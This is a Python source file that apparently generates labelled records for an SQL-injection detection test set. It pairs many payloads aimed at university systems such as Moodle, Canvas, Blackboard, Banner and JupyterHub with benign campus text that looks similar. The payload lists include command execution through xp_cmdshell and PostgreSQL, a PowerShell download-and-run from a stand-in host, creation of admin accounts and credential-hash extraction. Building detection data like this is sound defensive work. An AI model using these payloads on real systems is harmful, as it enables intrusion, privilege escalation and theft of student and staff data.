    "1 union select null,encode(crypted_password::bytea,'hex'),null from pseudonyms--",
    # Blackboard Learn (SQL Server): a hex-encoded statement, char() commands, nchar() strings
    "'; declare @s varchar(200); set @s=0x77616974666f722064656c61792027303a303a3527; exec(@s)--",
    "'; declare @c varchar(50)=char(119)+char(104)+char(111)+char(97)+char(109)+char(105); "
    "exec master..xp_cmdshell @c--",
    "' and user_id=nchar(97)+nchar(100)+nchar(109)+nchar(105)+nchar(110)--",
    # Banner and Blackboard Learn (Oracle)
    "' and user=chr(66)||chr(65)||chr(78)||chr(73)||chr(78)||chr(83)||chr(84)||chr(49)--",
    "' union select utl_raw.cast_to_varchar2(hextoraw('61646d696e')),null from dual--",
    "' and (select rawtohex(user) from dual) like '42%'--",
    # JupyterHub (SQLite): char() and blob literals
    "' union select char(97,100,109,105,110),hex(hashed) from api_tokens--",
    "' and name=x'61646d696e'--",
    "' and hex(substr((select hashed from api_tokens limit 1),1,6))='736861353132'--",
    # Sakai and EPrints (MySQL): concat of char() codes, 'admin' in a utf8mb4 introducer
    "1' and (select PW from SAKAI_USER where USER_ID=concat(char(97),char(100),char(109),char(105),char(110)))"
    " is not null#",
    "-1 union select username,password,3 from user where username=_utf8mb4 0x61646d696e#",
    # Banner (Oracle): unistr() escapes for the account name
    "' and (select count(*) from all_users where username="
    "unistr('\\0042\\0041\\004E\\0049\\004E\\0053\\0054\\0031'))>0--",
]

# stored-procedure / xp_cmdshell: commands and dangerous procedures through the database
PROC: list[Entry] = [
    # Blackboard Learn (SQL Server): xp_cmdshell and friends
    "_1_1'; exec master..xp_cmdshell 'whoami'--",
    "'; exec sp_configure 'show advanced options',1; reconfigure; exec sp_configure 'xp_cmdshell',1; reconfigure--",
    "'; exec xp_cmdshell 'powershell -c iwr http://oob.example.net/x.ps1|iex'--",
    "'; exec master.dbo.xp_cmdshell 'net user'--",
    "'; exec sp_addlogin 'student','P@ssw0rd1'; exec sp_addsrvrolemember 'student','sysadmin'--",
    "'; declare @o int; exec sp_oacreate 'wscript.shell',@o out; "
    "exec sp_oamethod @o,'run',null,'cmd /c whoami > c:\\inetpub\\wwwroot\\w.txt'--",
    "'; exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName'--",
    "'; exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select * from users'--",
    "'; exec sp_linkedservers--",
    "'; exec ('xp_cmdshell ''ipconfig''') at [SISLINK]--",
    "'; exec xp_servicecontrol 'start','schedule'--",
    "'; exec sp_executesql N'select @@version'--",
    "'; exec xp_availablemedia--",
    # Canvas LMS and DSpace (PostgreSQL superuser): libc system(), COPY ... PROGRAM, PL/Python
    "1; create or replace function system(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict--",
    "1; copy (select 1) to program 'id > /tmp/o'--",
    "1; create function sh(text) returns text language plpython3u as $$import os;return os.popen(args[0]).read()$$--",
    # Moodle, Koha (MySQL with lib_mysqludf_sys)
    "1; select sys_exec('id')-- -",
    "1; select sys_eval('whoami')#",
    "1; create function sys_exec returns integer soname 'lib_mysqludf_sys.so'-- -",
    # Banner, PeopleSoft (Oracle): PL/SQL through dbms_xmlquery, scheduler jobs, Java
    "' || dbms_xmlquery.newcontext('declare pragma autonomous_transaction; begin execute immediate "
    "''grant dba to banweb''; commit; end;') || '",
    "'; begin dbms_scheduler.create_job(job_name=>'j',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
    "number_of_arguments=>0,enabled=>true); end;--",
    "' || dbms_java.runjava('oracle/aurora/util/Wrapper /bin/bash -c id') || '",
    # a research-group PHP tool on SQLite: load a native extension
    "'; select load_extension('/tmp/evil.so')--",
    "' and 1=load_extension('\\\\oob.example.net\\s\\x.dll')--",
    # Slurm accounting portal (MySQL): a scheduled event that runs as the definer every minute
    "1; create event e on schedule every 1 minute do update user_table set admin_level=3 where name='student'-- -",
    # Blackboard Learn (SQL Server): an agent job step running a command
    "'; exec msdb..sp_add_job 'j'; exec msdb..sp_add_jobstep @job_name='j',@step_name='s',"
    "@subsystem='CmdExec',@command='whoami'; exec msdb..sp_add_jobserver @job_name='j'; "
    "exec msdb..sp_start_job 'j'--",
    # Canvas LMS (PostgreSQL): a trigger that grants every new pseudonym's user admin rights
    "1; create function f() returns trigger language plpgsql as $$begin insert into account_users"
    "(account_id,user_id) values(1,new.user_id); return new; end$$; create trigger t after insert on pseudonyms "
    "for each row execute procedure f()--",
]

# having/group-by/order-by probing: sort parameters (Moodle tsort, sortitemid, dir; Canvas order; Koha sort_by)
ORDER: list[Entry] = [
    # Moodle (MySQL): column count, conditional sort, sleep and errors inside ORDER BY
    "1 order by 10-- -",
    "2' order by 5#",
    "lastname,(select case when (1=1) then firstname else lastname end)",
    "(case when (select substr(password,1,1) from mdl_user where id=2)='$' then firstname else email end)",
    "firstname asc,if(1=1,sleep(5),0)",
    "id desc,(select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables "
    "group by x)a)",
    "if((select count(*) from mdl_user)>0,firstname,lastname)",
    "1 order by if(substr(user(),1,1)='r',1,(select 1 union select 2))#",
    "asc,(select(sleep(5)))",
    # MySQL 5.x: PROCEDURE ANALYSE after ORDER BY/LIMIT
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1 limit 0,1 procedure analyse(extractvalue(1,concat(0x7e,user())),1)",
    # MySQL: GROUP BY and HAVING
    "1 group by username having 1=1-- -",
    "1 group by concat(version(),floor(rand(0)*2)) having min(0)-- -",
    "1 having 1=1#",
    "' group by password having password like 'a%'-- -",
    # Koha staff report sort_by (MySQL)
    "author,(select sleep(5))",
    # Canvas LMS (PostgreSQL)
    "name,(case when (select current_user)='canvas' then 1 else 1/0 end)",
    "1,(select 1 from pg_sleep(5))",
    "(select 1 where 1=cast((select unique_id from pseudonyms limit 1) as int))",
    # Blackboard Learn (SQL Server): HAVING names the columns one by one in the error
    "' having 1=1--",
    "' group by users.user_id having 1=1--",
    "' group by users.user_id,users.passwd having 1=1--",
    "1 order by (select case when system_user='sa' then 1 else 1/0 end)--",
    "lastname desc; waitfor delay '0:0:5'--",
    # Blackboard Learn (Oracle)
    "' order by 1,2,3,4,5,6,7,8--",
    "1 order by (case when (select count(*) from users)>0 then 1 else to_number('x') end)--",
    # JupyterHub admin list (SQLite)
    "name,(case when (select admin from users where name='alice')=1 then name else created end)",
]

# like/between/in operators: character-by-character reads and range probes without '='
OPERATORS: list[Entry] = [
    # Moodle (MySQL)
    "1' and (select password from mdl_user where username='admin') like '$2y$10$a%'#",
    "1 and (select count(*) from mdl_user where username like 'adm%')>0",
    "1' or username like '%'-- -",
    "' or 1 like 1#",
    "1 and ascii(substr(user(),1,1)) between 97 and 122",
    "1 and (select length(password) from mdl_user where id=2) between 30 and 70",
    "1 and substr(database(),1,1) in ('m','k','o')",
    "1 and 2 in (select userid from mdl_role_assignments where roleid=1)",
    "1 and (select value from mdl_config where name='version') rlike '^20'",
    "1 and (select count(*) from mdl_user) not between 0 and 1",
    "x' or 1 between 0 and 2#",
    "' or 'a' in ('a')-- -",
    # Koha (MySQL)
    "1 and (select userid from borrowers where flags=1 limit 1) regexp '^a'",
    # Canvas LMS, DSpace (PostgreSQL)
    "1 and (select crypted_password from pseudonyms limit 1) like 'a%'--",
    "1 and current_user ilike 'canv%'--",
    "1 and (select count(*) from pseudonyms) between 1 and 100000--",
    "1 and (select unique_id from pseudonyms limit 1) similar to '%@%'--",
    "1 and (select email from eperson limit 1) ~ '^admin'--",
    # Blackboard Learn (SQL Server)
    "' and (select top 1 passwd from users) like '[a-f]%'--",
    "' and 1 in (select top 1 user_id from users where system_role='Z')--",
    "' and db_name() like 'BBLEARN%'--",
    # Blackboard Learn, Banner (Oracle)
    "' and (select user from dual) like 'BB%'--",
    "' and (select count(*) from spriden where spriden_last_name like 'A%') between 1 and 9999--",
    # JupyterHub (SQLite)
    "' and (select hashed from api_tokens limit 1) glob 'sha512*'--",
    "' or name in (select name from users where admin=1)--",
    # an OJS review plugin (MySQL): is there any review with the top recommendation
    "1 and 1 in (select recommendation from review_assignments)",
    # Slurm accounting (MySQL): jobs of another account by name pattern
    "1) or account like '%'-- -",
    # Sakai (MySQL): the admin account's hash by range
    "1' and (select PW from SAKAI_USER where USER_ID='admin') between 'A' and 'M'#",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# bracket-operator pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"nosql-injection"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["id", "courseid", "ref_id", "cidReq", "biblionumber", "sortitemid", "tsort", "attempt", "handle",
             "eprintid", "userid", "q"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    raw_places = ("form", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (teachers, researchers, students and campus IT staff in Slack, bios,
# directory searches by department or course code, links to course pages, papers and DOIs, quoted errors,
# submission and dataset file names, ordinary headers)
CHAT = [
    # teaching databases
    "for week 6 the lab is joins: SELECT s.name, c.code FROM students s JOIN enrolments e ON e.student_id = s.id",
    "quiz question 4: what does SELECT dept, AVG(salary) FROM staff GROUP BY dept HAVING AVG(salary) > 50000 return?",
    "reminder that ORDER BY comes after GROUP BY and HAVING, half the class had it the other way round",
    "rubric for the SQL assignment: 2 marks for the correct WHERE clause, 2 for using a JOIN, 1 for ORDER BY",
    "students keep writing WHERE grade = NULL instead of WHERE grade IS NULL, adding it to the FAQ",
    "lecture 9 slides cover UNION vs UNION ALL, the duplicate removal is the bit that trips people up",
    "can someone check my answer key? SELECT COUNT(*) FROM loans WHERE returned BETWEEN '2024-01-01' AND '2024-06-30'",
    "the LIKE 'Sm%' example in the notes is case sensitive on Postgres but not on the MySQL lab server",
    "for the security week I'm showing why you never build queries with string concatenation, parameterised "
    "queries only",
    "the injection demo uses the classic Bobby Tables comic, it still lands every year",
    "SQLite is fine for the intro module, we move them to PostgreSQL in year 2",
    "who marks question 3b? it asks for a subquery with IN (SELECT course_id FROM prerequisites)",
    "tutorial sheet 5 is up: normalisation to 3NF and a couple of GROUP BY exercises",
    "in the exam paper we wrote DROP TABLE by mistake where we meant DELETE FROM, fixing before it goes to print",
    "the window functions lecture got good feedback, ROW_NUMBER() OVER (PARTITION BY cohort) clicked for them",
    # LMS and gradebook admin
    "Moodle upgrade to 4.3 is scheduled for the reading week, the gradebook will be read-only for an hour",
    "the quiz attempt review page times out for courses with 900+ students, raised with the Moodle partner",
    "Canvas sync from the SIS failed overnight, the enrolment CSV had a stray quote in one surname (O'Neill)",
    "if a student's late penalty isn't showing, check the gradebook category aggregation, not the assignment",
    "Blackboard Ultra retires the old grade centre next term, export your weighted columns before then",
    "the LTI 1.3 launch to the plagiarism checker needs the deployment id from the platform registration",
    "proctoring extension: students must allow the browser lockdown before the exam window opens at 09:00",
    "Turnitin similarity report shows 34% but most of it is the quoted bibliography, excluded quotes and it's 6%",
    "ILIAS test results export as Excel now, ref_id 4711 is the shared question pool",
    "Chamilo course ENG101 was archived by mistake, restored from last night's backup",
    "please don't hard-delete courses in Moodle, use the recycle bin, it keeps them for 7 days",
    "SAML login to the library proxy broke after the IdP certificate rollover, Shibboleth SP needed the new metadata",
    "the enrolment portal shows 'course full' for CS2040 but there are 12 seats, waitlist job hasn't run",
    # research computing
    "sbatch --time=04:00:00 --mem=32G --gres=gpu:1 train.sh is what I use for the small runs",
    "squeue -u $USER shows my job pending with reason (Priority), how long is the queue on the gpu partition?",
    "sacct -j 123456 --format=JobID,Elapsed,MaxRSS,State tells you why it was killed, usually OOM",
    "Open OnDemand Jupyter app is back, the desktop app still needs the new module load line",
    "JupyterHub idle culler is set to 1 hour, save your notebooks",
    "in the notebook: df.groupby('department').agg({'grant_total': 'sum'}).sort_values('grant_total')",
    "pd.read_sql(\"SELECT * FROM observations WHERE station_id IN (12, 15, 19)\", conn) works fine for small pulls",
    "the cluster's scratch is purged after 30 days, copy results to /project before the deadline",
    "module load python/3.11 cuda/12.2 then pip install --user, don't pip install into the system python",
    "sleep 60 in the job script is just there so the filesystem catches up before we read the checkpoint",
    "benchmark runs are done: 4 nodes, 128 ranks, strong scaling drops off after 64",
    "our data pipeline writes to a PostgreSQL instance; the union of both survey waves is 18,402 rows",
    "if the Slurm REST API returns 401, your JWT from scontrol token has probably expired",
    # library and repository
    "Koha OPAC search for 'information retrieval' returns 212 hits, the discovery layer says 3,400",
    "EZproxy stanza for the new publisher is in, test with the starting point URL before announcing",
    "DSpace 7 handle 123456789/5521 is the thesis collection, embargoes lift on 1 September",
    "EPrints export to BibTeX is broken for items with an ampersand in the title, ticket raised",
    "Omeka exhibit for the archive project is live, the item ids in the captions are the old ones though",
    "OJS submission 1873 needs a second reviewer, the first one declared a conflict of interest",
    "the DOI for our paper is 10.1145/3597503.3639187 if anyone wants to cite it",
    # LaTeX, code and config people paste
    "\\begin{tabular}{l|c|r} fixes the alignment in the results table, the union of both columns was overflowing",
    "use \\cite{smith2021} not \\citep in the IEEE template, the reviewers were confused",
    "in the marking script: if score >= 40 and not late: status = 'pass'",
    "grep -rn 'TODO' submissions/ | wc -l gives 312, students love leaving TODOs",
    "the autograder runs `python -m pytest -q tests/` with a 60 s timeout per test",
    "config.php has $CFG->dbtype = 'pgsql'; on the new server, don't copy the old mysqli one",
    "error from the import: ERROR 1062 (23000): Duplicate entry 's1234567' for key 'username'",
    "psql says: ERROR: column \"grade\" does not exist, HINT: Perhaps you meant to reference the column \"grades\"",
    "the Canvas API needs per_page=100 or you only get 10 submissions back",
    # campus IT and students
    "password reset for the SIS is on the self-service page, IT can't see your password",
    "the exam timetable clash between MATH1010 and PHYS1020 is resolved, PHYS moved to Thursday",
    "office hours moved to Wednesday 2-4pm in room B.212, or drop in on Teams",
    "my essay on 'union membership in the 1980s' was flagged by the similarity checker because of the quotes",
    "anyone in the reading group for 'Designing Data-Intensive Applications'? chapter 3 is about indexes",
    "I'm TA for the databases course this term, send questions about the coursework here",
    "does anyone know if the library has a copy of 'SQL Antipatterns' by Karwin?",
    "the group project for HCI is due Friday 23:59, submit one zip per group",
    "please name files as surname_studentnumber_assignment2.pdf so the marking script can match them",
    "the 'drop' deadline for modules without a fail is end of week 4",
    "between the two cohorts the median mark differs by 3 points, not significant",
    "select your seminar group in the portal before Monday or you'll be allocated one",
    "Dr. Sleep's lecture on circadian rhythms is moved to the big lecture theatre",
]

SEARCHES = [
    "computer science", "Department of History", "CS101", "MATH1010 tutors", "physics lab technician",
    "O'Neill", "D'Arcy", "van der Berg", "Ó Súilleabháin", "librarian", "research software engineer",
    "HPC support", "teaching assistant databases", "Dr Select", "union branch rep", "admissions office",
    "registry", "exam board", "ENG101", "CHEM 2B", "BIO-301", "postgrad rep", "Sleep lab", "Group leader",
    "having trouble logging in", "moodle admin", "canvas support", "koha", "dspace repository team",
    "jupyterhub", "slurm", "open ondemand", "lti integration", "proctoring", "turnitin", "shibboleth",
    "like minds society", "between terms", "order of graduation", "char", "null", "information studies",
    "schema migration", "data science institute", "statistics",
]

URLS = [
    "https://moodle.example.ac.uk/course/view.php?id=4211",
    "https://moodle.example.ac.uk/mod/quiz/view.php?id=98123",
    "https://moodle.example.ac.uk/grade/report/grader/index.php?id=4211&sortitemid=lastname",
    "https://canvas.example.edu/courses/1342/assignments/88120",
    "https://canvas.example.edu/api/v1/courses/1342/students/submissions?per_page=100",
    "https://learn.example.edu/ultra/courses/_123_1/outline",
    "https://ilias.example.de/goto.php?target=crs_4711&client_id=uni",
    "https://campus.example.es/courses/ENG101/index.php?id_session=0",
    "https://library.example.ac.uk/cgi-bin/koha/opac-search.pl?q=information+retrieval",
    "https://library.example.ac.uk/cgi-bin/koha/opac-detail.pl?biblionumber=20731",
    "https://login.ezproxy.example.edu/login?url=https://www.jstor.org/stable/10.2307/1885471",
    "https://repository.example.ac.uk/handle/123456789/5521",
    "https://eprints.example.ac.uk/id/eprint/10877/",
    "https://archive.example.edu/items/browse?collection=3",
    "https://journals.example.edu/index.php/jle/article/view/1873",
    "https://jupyter.example.edu/hub/user/alice/lab/tree/thesis/chapter3.ipynb",
    "https://ondemand.hpc.example.edu/pun/sys/dashboard/activejobs",
    "https://doi.org/10.1145/3597503.3639187",
    "https://arxiv.org/abs/2403.01234",
    "https://www.postgresql.org/docs/current/queries-union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/group-by-handling.html",
    "https://docs.moodle.org/403/en/Gradebook",
    "https://canvas.instructure.com/doc/api/submissions.html",
    "https://slurm.schedmd.com/sacct.html",
    "https://www.imsglobal.org/spec/lti/v1p3",
]

PROSE = [
    "students enrolled between September and December",
    "courses like CS1% in the autumn term",
    "group by faculty for the teaching quality report",
    "order by surname for the exam seating plan",
    "select committee on research integrity",
    "union of the two mailing lists for the open day",
    "staff with role teacher in course 4211",
    "O'Connor, Siobhan",
    "D'Souza, Priya",
    "having access issues with the VLE",
    "sleep and cognition research group",
    "benchmark results for the new cluster",
    "information school postgraduate office",
    "null hypothesis seminar series",
    "procedure for extenuating circumstances",
    "drop-in study skills sessions",
    "exec board of the students' union",
    "wait for delay approval from exam board",
    "char grading criteria for design modules",
    "hex editor licences for the forensics lab",
    "like-for-like replacement laptops for lecturers",
    "in-person exams week 11",
    "1 = 1 meetings with personal tutors",
    "true/false questions in the quiz bank",
    "admin -- temporary access for clearing",
    "#cs-teaching channel members",
    "stored procedures module (DB2) alumni",
    "concat surname and initials for certificates",
    "users where last login older than 180 days",
    "schema for the research data catalogue",
    "where to find the marking rubric",
    "table tennis society",
    "drop table reservations for the library group study rooms",
    "between-subjects design ethics approvals",
    "select all tutors in the maths department",
]

PROFILES = [
    ("Prof. Ana Select", "School of Computing, Room 3.14, Leeds"),
    ("Dr. Sean O'Neill", "Trinity College, Dublin"),
    ("Priya D'Souza", "Dept. of Statistics, Bengaluru"),
    ("Union Library Services", "Union Rd 1, Cambridge"),
    ("Dr. Jana Group", "Faculty of Physics, Prague"),
    ("Sleep Research Unit", "Medical School, Level 5, Edinburgh"),
    ("Benchmark HPC Team", "Research Computing, Building 7, Garching"),
    ("Having Institute", "Campus Nord, Barcelona"),
    ("Dr. Null", "Mathematics Institute, Coventry"),
    ("Between Cultures Centre", "Arts Tower, Sheffield"),
    ("Like Lab", "Psychology Building, Utrecht"),
    ("Char Studio (Design)", "School of Art, Glasgow"),
    ("Hex Robotics Society", "Engineering Hall, Delft"),
    ("Procedure Review Board", "Research Office, Toronto"),
    ("Mongo Research Station", "Field Site 2, Mongolia"),
    ("Information School", "Regent Court, Sheffield"),
    ("Order of Graduates", "Great Hall, St Andrews"),
    ("Exec Education Centre", "Business School, Warwick"),
    ("Dr. María Ó Dálaigh", "School of Celtic Studies, Galway"),
    ("Library Systems Team (Koha)", "Main Library, Level 2, Auckland"),
]

UPLOAD_NAMES = [
    "smith_s1234567_assignment2.pdf", "CS101-week6-joins-lab.sql", "quiz4-group-by-having-answers.docx",
    "lecture09-union-vs-union-all.pptx", "gradebook-export-4211.csv", "O'Neill_essay_final.docx",
    "thesis-chapter3 (v2).tex", "survey_wave1_wave2_union.csv", "slurm-123456.out", "train.sh",
    "results_table.xlsx", "marking-rubric-SQL-coursework.pdf", "koha-patrons-2024.csv", "dspace-export.zip",
    "notebook-analysis.ipynb", "references.bib", "exam-seating-order-by-surname.xlsx",
    "benchmark-strong-scaling.png", "lti-registration.json", "ethics-approval-between-subjects.pdf",
    "schema_v3.sql", "D'Arcy-poster-final.pdf", "sleep-study-dataset.tar.gz", "slides_week11_injection_demo.pdf",
    "canvas-submissions-1342.zip",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4.1 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"),
    ("User-Agent", "MoodleMobile 4.3.0 (43000)"),
    ("User-Agent", "CanvasStudent/7.9.0 (iPhone; iOS 17.5; Scale/3.00)"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "Zotero/6.0.36"),
    ("Referer", "https://moodle.example.ac.uk/grade/report/grader/index.php?id=4211"),
    ("Referer", "https://canvas.example.edu/courses/1342/gradebook"),
    ("Referer", "https://library.example.ac.uk/cgi-bin/koha/opac-search.pl?q=sql+antipatterns"),
    ("Referer", "https://scholar.google.com/scholar?q=sql+injection+detection+survey"),
    ("Referer", "https://ondemand.hpc.example.edu/pun/sys/dashboard/"),
    ("X-Api-Version", "2024-09-01"),
    ("X-Request-Id", "7b2e4c1d-9a0f-4e63-8d15-2f6a0c9b3e71"),
    ("Accept-Language", "en-GB,en;q=0.9,cy;q=0.6"),
    ("Cookie", "session=abc123; MoodleSession=q8v3k2m1n0; lang=en"),
    ("Cookie", "session=abc123; sort=lastname; dir=asc"),
    ("Cookie", "session=abc123; course=CS101; term=2024-autumn"),
    ("If-Modified-Since", "Mon, 02 Sep 2024 08:00:00 GMT"),
    ("X-Forwarded-For", "192.0.2.44"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
